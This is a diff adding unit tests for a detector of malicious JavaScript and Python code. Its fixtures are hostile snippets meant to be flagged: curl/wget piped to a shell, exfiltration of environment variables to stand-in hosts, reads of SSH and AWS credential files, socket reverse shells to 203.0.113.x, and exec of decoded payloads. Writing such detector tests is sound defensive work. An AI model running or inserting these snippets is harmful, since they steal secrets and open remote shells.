@@ -1,0 +1,86 @@
+import { beforeAll, describe, expect, it } from "vitest";
+import { analyzeJs, analyzePython } from "../../src/detect/code.js";
+import { loadParsers } from "../../src/detect/treesitter.js";
+
+beforeAll(async () => {
+  await loadParsers();
+});
+
+const js = (s: string) => analyzeJs(s).map((h) => h.rule);
+const py = (s: string) => analyzePython(s).map((h) => h.rule);
+
+describe("analyzeJs", () => {
+  it.each([
+    ["eval(atob('YWxlcnQoMSk='))", "code.eval-decoded"],
+    ["const c = Buffer.from(x, 'base64').toString(); new Function(c)();", "code.eval-decoded"],
+    ["require('vm').runInNewContext(Buffer.from(p, 'hex').toString())", "code.eval-decoded"],
+    [
+      "const cp = require('child_process'); cp.exec('curl -s https://example.invalid/a | sh')",
+      "shell.download-exec",
+    ],
+    [
+      "fetch('https://webhook.site/x', {method:'POST', body: JSON.stringify(process.env)})",
+      "code.env-exfiltration",
+    ],
+    ["const fs=require('fs');fs.readFileSync(os.homedir()+'/.ssh/id_rsa')", "code.credential-access"],
+    [
+      "const net=require('net');const {spawn}=require('child_process');const sh=spawn('/bin/sh');const c=new net.Socket();c.connect(1,'203.0.113.1');",
+      "code.reverse-shell",
+    ],
+    ["fetch('http://203.0.113.8/c2')", "code.suspicious-endpoint"],
+  ])("flags %s", (src, rule) => {
+    expect(js(src)).toContain(rule);
+  });
+  it("parses TypeScript through the tolerant parser", () => {
+    expect(js("const x: string = atob(p) as string;\neval(atob(p) as string);")).toContain(
+      "code.eval-decoded",
+    );
+  });
+  it.each([
+    "import { execFile } from 'node:child_process'; execFile('git', ['status']);",
+    "const key = process.env.API_KEY; await fetch('https://api.example.com', { headers: { key } });",
+    "spawn(cmd, args, { env: { ...process.env, FOO: '1' } })",
+    "setTimeout(() => done(), 10)",
+  ])("does not flag %s above low", (src) => {
+    expect(
+      analyzeJs(src)
+        .filter((h) => h.confidence !== "low")
+        .map((h) => h.rule),
+    ).toEqual([]);
+  });
+});
+
+describe("analyzePython", () => {
+  it.each([
+    ["import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", "code.eval-decoded"],
+    ["import zlib,base64\np = zlib.decompress(base64.b64decode(x))\nexec(p)", "code.eval-decoded"],
+    ["import marshal\nexec(marshal.loads(base64.b64decode(x)))", "code.eval-decoded"],
+    [
+      "import subprocess\nsubprocess.run('curl -s https://example.invalid/a | bash', shell=True)",
+      "shell.download-exec",
+    ],
+    ["import os\nos.system('wget -qO- https://example.invalid/x | sh')", "shell.download-exec"],
+    [
+      "import socket,os,pty\ns=socket.socket()\ns.connect(('203.0.113.5',4444))\nos.dup2(s.fileno(),0)\npty.spawn('/bin/sh')",
+      "code.reverse-shell",
+    ],
+    [
+      "import os,requests\nrequests.post('https://example.invalid', json=dict(os.environ))",
+      "code.env-exfiltration",
+    ],
+    ["open(os.path.expanduser('~/.aws/credentials')).read()", "code.credential-access"],
+  ])("flags %s", (src, rule) => {
+    expect(py(src)).toContain(rule);
+  });
+  it.each([
+    "import os\nkey = os.environ.get('API_KEY')\nprint(key is not None)",
+    "import subprocess\nsubprocess.run(['git', 'status'], check=True)",
+    "import json\nprint(json.dumps({'a': 1}))",
+  ])("does not flag %s above low", (src) => {
+    expect(
+      analyzePython(src)
+        .filter((h) => h.confidence !== "low")
+        .map((h) => h.rule),
+    ).toEqual([]);
+  });
+});
